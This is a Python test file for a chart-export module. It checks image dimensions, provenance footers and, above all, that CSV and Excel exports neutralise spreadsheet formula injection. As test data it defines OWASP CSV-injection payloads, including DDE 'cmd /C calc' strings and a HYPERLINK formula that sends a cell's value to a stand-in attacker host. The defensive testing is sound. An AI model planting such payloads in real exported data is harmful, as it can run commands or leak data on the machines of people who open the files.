"""Per-chart exports: slide-sized images with their context, and numbers that carry no formulas."""

from __future__ import annotations

import csv
import datetime as dt
import io
import shutil
import struct
import subprocess
import sys
import zipfile
from pathlib import Path

import duckdb
import pandas as pd
import pytest
from defusedxml import ElementTree
from openpyxl import load_workbook
from pypdf import PdfReader

from impact.charts import catalog, export
from impact.model import cells
from impact.query import db
from impact.query.filters import Filters

ROOT = Path(__file__).resolve().parent.parent
DAY = dt.date(2026, 11, 23)

# OWASP "CSV injection" payloads, one per formula-starting character, used as names in the data.
OWASP_PAYLOADS = (
    "=cmd|' /C calc'!A0",
    '+HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example","Error")',
)


def png_size(data: bytes) -> tuple[int, int]:
    """Width and height from a PNG's IHDR chunk."""
    assert data[:8] == b"\x89PNG\r\n\x1a\n"
    return struct.unpack(">II", data[16:24])


def hostile_copy(source: Path, target: Path) -> Path:
    """A copy of an extract whose largest countries and projects are named with OWASP payloads."""
    target.mkdir(parents=True, exist_ok=True)
    for item in source.iterdir():
        if item.is_file():
            shutil.copy(item, target / item.name)
    con = duckdb.connect()
    top = [r[0] for r in con.execute(
        "select iso3 from read_parquet($path) group by iso3 order by sum(trainees) desc, iso3 limit $n",
        {"path": str(source / "training.parquet"), "n": len(OWASP_PAYLOADS)}).fetchall()]
    countries = pd.read_parquet(source / "countries.parquet")
    for iso3, payload in zip(top, OWASP_PAYLOADS, strict=True):
        countries.loc[countries["iso3"] == iso3, "name"] = payload
    countries.to_parquet(target / "countries.parquet", index=False)
    projects = pd.read_parquet(source / "projects.parquet")
    for i, payload in enumerate(OWASP_PAYLOADS):
        projects.loc[i, "title"] = payload
    projects.to_parquet(target / "projects.parquet", index=False)
    return target


@pytest.fixture(scope="module")
def hostile_dir(fixture_dir, tmp_path_factory) -> Path:
    """The fixture extract with formula payloads in country names and project titles."""
    return hostile_copy(fixture_dir, tmp_path_factory.mktemp("hostile"))


@pytest.fixture(scope="module")
def database(fixture_dir):
    """The app's database over the fixture extract."""
    return db.open_database(fixture_dir, "fixture-v1")


SAMPLE_OPTIONS = {"project_results": {"project_id": "HPS-001"}, "results": {"metric": "trainees"}, "partnership_scores": {"project_id": "HPS-002"},
                  "explore": {"by": "cadre", "split": "gender"}, "country_map": {"metric": "women_share"}}


def _prepared(database, chart_id: str, filters: Filters | None = None, chart_options: dict | None = None):
    filters = filters or Filters()
    chart_options = SAMPLE_OPTIONS.get(chart_id, {}) if chart_options is None else chart_options
    spec = catalog.chart(chart_id, chart_options)
    options = export.filter_choices(database)
    frame = export.chart_data(database, spec, filters, options, chart_options)
    provenance = export.Provenance.of(database, filters.describe(options), DAY)
    return spec, frame, provenance


def test_png_is_a_16_9_slide_and_2x_doubles_it(database):
    spec, frame, provenance = _prepared(database, "trainees_by_theme")
    assert png_size(export.chart_bytes(spec, frame, provenance, "png")) == (1920, 1080)
    assert png_size(export.chart_bytes(spec, frame, provenance, "png", scale=2)) == (3840, 2160)


def test_svg_parses_and_carries_title_filters_and_footer(database, independent):
    filters = Filters(country=("UGA", "TZA"), period_from=dt.date(2014, 1, 1))
    spec, frame, provenance = _prepared(database, "trainees_by_country", filters)
    svg = export.chart_bytes(spec, frame, provenance, "svg")
    root = ElementTree.fromstring(svg)
    texts = " ".join("".join(e.itertext()) for e in root.iter() if e.tag.endswith("text"))
    assert spec.title in texts
    assert provenance.filters.startswith("2014Q1") and "Country: " in provenance.filters
    assert provenance.filters in texts
    footer = f"Source: {database.programme.name}, {database.label} · Data version fixture-v1 · 23 November 2026"
    assert footer in texts
    uganda = independent.scalar("select sum(trainees) from training where iso3 = 'UGA' and period >= '2014-01-01'")
    assert f"{uganda:,}" in texts  # the bar label is the independent total


def test_pdf_is_one_16_9_page_with_the_title(database):
    spec, frame, provenance = _prepared(database, "trainees_trend")
    reader = PdfReader(io.BytesIO(export.chart_bytes(spec, frame, provenance, "pdf")))
    assert len(reader.pages) == 1
    box = reader.pages[0].mediabox
    assert float(box.width) / float(box.height) == pytest.approx(16 / 9, rel=0.01)
    assert spec.title in reader.pages[0].extract_text()


def test_map_svg_draws_every_country_from_the_shipped_outlines(database, independent):
    spec, frame, provenance = _prepared(database, "trainees_map")
    svg = export.chart_bytes(spec, frame, provenance, "svg").decode()
    countries = independent.scalar("select count(distinct iso3) from training where trainees > 0")
    assert svg.count('class="choropleth') >= 1
    root = ElementTree.fromstring(svg)
    shapes = [e for e in root.iter() if e.get("class") == "choroplethlocation"]
    assert len(shapes) == countries


def _offline_available() -> bool:
    if not shutil.which("unshare"):
        return False
    return subprocess.run(["unshare", "-rn", "true"], capture_output=True).returncode == 0


@pytest.mark.skipif(not _offline_available(), reason="needs `unshare -rn` (user namespaces) to cut the network")
def test_map_png_exports_with_no_network_at_all(fixture_dir, tmp_path):
    out = tmp_path / "map.png"
    run = subprocess.run(
        ["unshare", "-rn", sys.executable, "-m", "impact", "export", "chart", "trainees_map",
         "--format", "png", "--out", str(out), "--data", str(fixture_dir)],
        cwd=ROOT, capture_output=True, text=True, timeout=120,
    )
    assert run.returncode == 0, run.stderr
    data = out.read_bytes()
    assert png_size(data) == (1920, 1080)
    assert len(data) > 50_000  # a drawn map, not an empty frame


def test_neutralise_prefixes_formula_text_and_keeps_numbers():
    for payload in OWASP_PAYLOADS:
        assert export.neutralise(payload) == "'" + payload
    for safe in ("Uganda", "Côte d'Ivoire", "", "1+1"):
        assert export.neutralise(safe) == safe
    for number in (-5, -2.5, 0, 93112, 0.74):
        assert export.neutralise(number) == number


def _hostile(hostile_dir):
    database = db.open_database(hostile_dir, "hostile")
    return _prepared(database, "trainees_by_country")


def test_csv_round_trips_numbers_and_neutralises_payloads(hostile_dir, independent):
    spec, frame, provenance = _hostile(hostile_dir)
    rows = list(csv.reader(io.StringIO(export.csv_bytes(spec, frame).decode("utf-8-sig"), newline="")))
    header, body = rows[0], rows[1:]
    assert header == ["ISO-3 code", "Country", "Region", "Health workers trained"]
    expected = independent.rows(
        "select iso3, sum(trainees) from training group by iso3 order by 2 desc limit ?", [spec.top])
    assert {(r[0], int(r[3])) for r in body} == {(iso3, int(total)) for iso3, total in expected}
    names = {r[1] for r in body}
    for payload in OWASP_PAYLOADS:
        assert "'" + payload in names
    for row in body:
        for cell in row:
            assert not cell.startswith(cells.FORMULA_TRIGGERS) or cell.lstrip("-").isdigit()


def test_xlsx_round_trips_numbers_and_holds_no_formula(hostile_dir, independent):
    spec, frame, provenance = _hostile(hostile_dir)
    data = export.xlsx_bytes(spec, frame, provenance)
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        for name in book.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in book.read(name) and b"<f " not in book.read(name)
    workbook = load_workbook(io.BytesIO(data))
    sheet = workbook["Data"]
    cells = [c for row in sheet.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    expected = dict(independent.rows(
        "select iso3, sum(trainees) from training group by iso3 order by 2 desc limit ?", [spec.top]))
    assert {r[0]: r[3] for r in rows} == expected
    assert all(isinstance(r[3], int) for r in rows)  # numbers stay numbers
    assert {"'" + p for p in OWASP_PAYLOADS} <= {r[1] for r in rows}
    about = dict(workbook["About"].iter_rows(values_only=True))
    assert about["Data version"] == "hostile" and about["Chart"] == spec.title


# Vocabulary values a split turns into column headings and chart series (the explorer's split by gender).
HOSTILE_SERIES = ("=Undisclosed", "@W", "+M", "-1+2", "=Peru")


def hostile_split():
    """The explorer's chart split by gender, over a frame whose themes and genders are formula-like values."""
    spec = catalog.chart("explore", {"by": "theme", "split": "gender"})
    frame = pd.DataFrame({
        "category": ["=Peru", "=Peru", "@W", "-1+2", "Water, sanitation and hygiene", "+M"],
        "category2": ["=Undisclosed", "@W", "+M", "-1+2", "=Peru", "=Undisclosed"],
        "trainees": [5.0, 3.0, 2.0, 7.0, 4.0, 1.0],
    })
    assert set(spec.series(spec.rows(frame))) == set(HOSTILE_SERIES)  # every hostile value is a heading
    return spec, frame


def live_formulas(values) -> list[str]:
    """The text values a spreadsheet would run as formulas (not neutralised)."""
    return [v for v in values if isinstance(v, str) and v.startswith(cells.FORMULA_TRIGGERS)]


def test_csv_and_excel_headings_named_after_values_are_neutralised():
    spec, frame = hostile_split()
    rows = list(csv.reader(io.StringIO(export.csv_bytes(spec, frame).decode("utf-8-sig"), newline="")))
    assert {"'" + v for v in HOSTILE_SERIES} <= set(rows[0])
    assert live_formulas(c for row in rows for c in row) == []
    provenance = export.Provenance("Fixture", "v1", DAY, "All")
    workbook = load_workbook(io.BytesIO(export.xlsx_bytes(spec, frame, provenance)))
    assert {"'" + v for v in HOSTILE_SERIES} <= {c.value for c in workbook["Data"][1]}
    assert live_formulas(sheet.title for sheet in workbook) == []
    every = [c for sheet in workbook for row in sheet.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in every)
    assert live_formulas(c.value for c in every) == []


def test_every_catalogued_chart_exports_every_format(database):
    for chart_id in catalog.CHARTS:
        spec, frame, provenance = _prepared(database, chart_id)
        for fmt in export.FORMATS:
            assert export.chart_bytes(spec, frame, provenance, fmt), (chart_id, fmt)


def test_unknown_format_is_refused(database):
    spec, frame, provenance = _prepared(database, "trainees_by_theme")
    with pytest.raises(ValueError, match="unknown format"):
        export.chart_bytes(spec, frame, provenance, "gif")


def test_the_tables_own_csv_download_is_off():
    """Streamlit's table toolbar writes cells as they are; the app turns it off (every table has its own,
    neutralised, downloads)."""
    import tomllib

    from tests.conftest import ROOT

    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["client"]["disableDataExport"] is True
